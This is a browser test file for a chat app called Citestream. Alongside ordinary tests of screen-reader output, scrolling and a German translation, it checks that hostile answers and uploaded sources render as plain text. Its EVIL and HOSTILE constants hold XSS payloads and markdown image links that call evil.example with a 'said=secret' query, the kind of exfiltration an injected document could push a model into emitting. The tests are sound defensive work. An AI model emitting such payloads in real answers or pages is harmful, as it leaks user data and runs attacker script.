import { check, until } from "../browser.mjs";
import { ChatPage, QUESTION } from "../chatPage.mjs";

const EVIL = [
  "![tracker](https://evil.example/pixel.png?said=secret)",
  "![tracker][t]",
  "[click](https://evil.example/click)",
  "<https://evil.example/auto> and https://evil.example/bare",
  "[run](javascript:document.title='owned')",
  "[data](data:text/html,<script>document.title='owned'</script>)",
  '<img src="https://evil.example/raw.png" onerror="document.title=\'owned\'">',
  "<script>document.title='owned'</script><iframe src='https://evil.example/frame'></iframe>",
  "<style>@import 'https://evil.example/style.css';</style>",
  "\n\n[t]: https://evil.example/reference.png",
].join("\n\n");

/** A stream of the wire contract with this text as its answer. */
function scripted(text, { run_id: runId, session_id: sessionId }, pieces = /[^]{1,7}/g) {
  const run = { stage: "run", status: "started", run_id: runId, session_id: sessionId };
  const filters = { source_ids: [], kinds: [], tags: [] };
  const events = [
    ["run_start", { ...run, message_id: "scripted", model: "scripted", filters }],
    ...text.match(pieces).map((piece) => ["token", piece]),
    ["citations", { stage: "citations", status: "complete", citations: [] }],
    [
      "done",
      {
        finish_reason: "stop",
        message_id: "scripted",
        saved: true,
        usage: { input_tokens: 1, output_tokens: 1, estimated: true },
        timings: { retrieval_ms: 1, first_token_ms: 1, total_ms: 1 },
      },
    ],
  ];
  const timestamp = "2026-11-20T10:30:40.000Z";
  return events
    .map(([type, content], index) => `id: ${index + 1}\ndata: ${JSON.stringify({ type, content, timestamp })}\n\n`)
    .join("");
}

/** A document that talks the model into links and pictures gets nothing out of the page. */
export async function answersAreInert(context) {
  const asked = [];
  context.on("request", (request) => asked.push(request.url()));
  const chat = await ChatPage.open(context);
  await chat.page.route("**/chat", (route) =>
    route.fulfill({
      contentType: "text/event-stream",
      body: scripted(EVIL, route.request().postDataJSON()),
    }),
  );
  await chat.ask(QUESTION);
  await chat.ends();
  const answer = chat.page.locator("article [data-markdown]");
  const risky = "a, img, script, iframe, style, object, embed, form, [onerror], [href], [src]";
  check((await answer.locator(risky).count()) === 0, "the answer brought something along");
  const text = await chat.text();
  for (const shown of ["tracker", "click (https://evil.example/click)", "https://evil.example/auto"]) {
    check(text.includes(shown), `“${shown}” is not in “${text}”`);
  }
  for (const words of await answer.getByText(/click|run|data|auto/).all()) await words.click();
  check((await chat.page.title()) === "Citestream", "a script of the answer ran");
  const elsewhere = asked.filter((url) => !url.startsWith(process.env.BASE_URL));
  check(elsewhere.length === 0, `fetched ${elsewhere.join(", ")}`);
  check(context.pages().length === 1, "a window was opened");
}

const RISKY = "img, script, iframe, style, object, embed, form, [onerror], [onload], [src]";

/** Answers `POST /chat` from inside the page, a character per painted frame, and looks each time. */
function dripped({ frames, risky }) {
  const real = window.fetch;
  window.appeared = [];
  const painted = () => new Promise((resume) => requestAnimationFrame(resume));
  const drip = async (controller, body) => {
    for (const frame of frames) {
      const own = frame.replace("RUN", body.run_id).replace("SESSION", body.session_id);
      controller.enqueue(new TextEncoder().encode(`${own}\n\n`));
      await painted();
      const found = document.querySelector("article [data-markdown]")?.querySelector(risky);
      if (found) window.appeared.push(found.outerHTML);
    }
    controller.close();
  };
  window.fetch = (url, options) => {
    const path = new URL(url, window.location.href).pathname;
    if (path !== "/chat" || options?.method !== "POST") return real(url, options);
    const start = (controller) => drip(controller, JSON.parse(options.body));
    const headers = { "Content-Type": "text/event-stream" };
    return Promise.resolve(new Response(new ReadableStream({ start }), { headers }));
  };
}

/** Cut anywhere, half a tag or link is as harmless as the whole. */
export async function everySplitOfAnAnswerIsInert(context) {
  const asked = [];
  context.on("request", (request) => asked.push(request.url()));
  const stream = scripted(EVIL, { run_id: "RUN", session_id: "SESSION" }, /[^]/g);
  await context.addInitScript(dripped, { frames: stream.trim().split("\n\n"), risky: RISKY });
  const chat = await ChatPage.open(context);
  chat.page.on("dialog", (dialog) => asked.push(`a dialog: ${dialog.message()}`));
  await chat.ask(QUESTION);
  await chat.ends();
  const appeared = await chat.page.evaluate(() => window.appeared);
  check(appeared.length === 0, `appeared in between: ${appeared[0]}`);
  check((await chat.page.title()) === "Citestream", "a script of the answer ran");
  const elsewhere = asked.filter((url) => !url.startsWith(process.env.BASE_URL));
  check(elsewhere.length === 0, `fetched ${elsewhere.join(", ")}`);
}

const HOSTILE_NAME = "zorvex<img src=x onerror=document.title='owned'>.md";
const HOSTILE_TEXT = `# Zorvex <script>document.title='owned'</script> pump

The zorvex pump <img src="https://evil.example/z.png" onerror="document.title='owned'"> runs at a
pressure of 41 bar, see [the manual](javascript:document.title='owned').
`;

/** A source whose name, title and passage are markup is shown as text wherever it appears. */
export async function hostileSourcesAreInert(context) {
  const asked = [];
  context.on("request", (request) => asked.push(request.url()));
  const chat = await ChatPage.open(context);
  const { page } = chat;
  page.on("dialog", (dialog) => asked.push(`a dialog: ${dialog.message()}`));
  const files = { name: HOSTILE_NAME, mimeType: "text/markdown", buffer: Buffer.from(HOSTILE_TEXT) };
  await page.locator("input[type=file]").first().setInputFiles(files);
  await page.locator("li[data-state=ready]").first().waitFor();
  await chat.ask("At what pressure does the zorvex pump run?");
  await chat.ends();
  check((await chat.text()).includes("41 bar"), `not answered from it: ${await chat.text()}`);
  const mark = page.locator("article [data-marker]").first();
  await mark.hover();
  await page.locator("[role=tooltip]", { hasText: "41 bar" }).waitFor();
  await mark.click();
  await page.getByRole("complementary").filter({ hasText: "41 bar" }).first().waitFor();
  await page.goto(`${process.env.BASE_URL}/library`);
  await page.getByText(HOSTILE_NAME).first().waitFor();
  check((await page.locator("img, iframe, [onerror]").count()) === 0, "markup of a name was taken");
  check(!(await page.title()).includes("owned"), "a script of the source ran");
  const elsewhere = asked.filter((url) => !url.startsWith(process.env.BASE_URL));
  check(elsewhere.length === 0, `fetched ${elsewhere.join(", ")}`);
}

/** Everything the live region says, in order: stages, whole sentences, the end. */
export async function screenReaderHearsStagesAndSentences(context) {
  const chat = await ChatPage.open(context);
  await chat.page.evaluate(() => {
    window.heard = [];
    const region = document.querySelector('[data-phase] > [aria-live="polite"]');
    new MutationObserver(() => window.heard.push(region.textContent)).observe(region, {
      childList: true,
      characterData: true,
      subtree: true,
    });
  });
  await chat.ask(QUESTION);
  await chat.ends();
  const complete = (heard) => heard.at(-1)?.endsWith("Answer complete.") === true;
  const heard = await until("the end", () => chat.page.evaluate(() => window.heard), complete);
  const isStage = (said) => /^\p{L}+…$/u.test(said);
  const first = heard.findIndex((said) => !isStage(said));
  check(heard.slice(first).every((said) => !isStage(said)), `a stage after text: ${heard}`);
  const sentences = heard.slice(first);
  for (const said of sentences) check(/[.:;!?]$/.test(said), `not a whole sentence: “${said}”`);
  const words = (text) => text.replace(/\[\d+\]/g, "").replace(/[^\p{L}\p{N}]+/gu, "");
  const spoken = words(sentences.join(" ").replace(/Answer complete\.$/, ""));
  check(spoken === words((await chat.stored()).content), `it heard “${sentences.join(" | ")}”`);
}

/** Scrolling up is the reader's: the page stays, says that there is more, and goes there. */
export async function newTextWaitsBelow(context) {
  const chat = await ChatPage.open(context);
  const { page } = chat;
  await page.setViewportSize({ width: 1280, height: 320 });
  await chat.ask(QUESTION);
  await chat.hasText(500);
  const top = () => page.evaluate(() => document.querySelector("[data-phase] > div:first-child").scrollTop);
  await page.evaluate(() => document.querySelector("[data-phase] > div:first-child").scrollTo({ top: 0 }));
  await page.getByRole("button", { name: "New text" }).waitFor();
  const before = (await chat.text()).length;
  await until("more text", () => chat.text(), (text) => text.length > before + 40);
  check((await top()) === 0, "the page moved away from the reader");
  await chat.ends();
  await page.getByRole("button", { name: "New text" }).click();
  await until("the newest text", top, (now) => now > 0);
  await page.getByRole("button", { name: "New text" }).waitFor({ state: "hidden" });
}

/** Another language from its own file: all of the page, also what was on screen. */
export async function pageSpeaksGerman(context) {
  const chat = await ChatPage.open(context);
  await chat.page.evaluate(() => localStorage.setItem("language", "de"));
  await chat.page.reload();
  await chat.page.getByLabel("Deine Frage").fill(QUESTION);
  await chat.page.keyboard.press("Enter");
  await chat.ends();
  await chat.page.getByText("So wurde gesucht").waitFor();
  check((await chat.page.getAttribute("html", "lang")) === "de", "the page's language is not said");
}
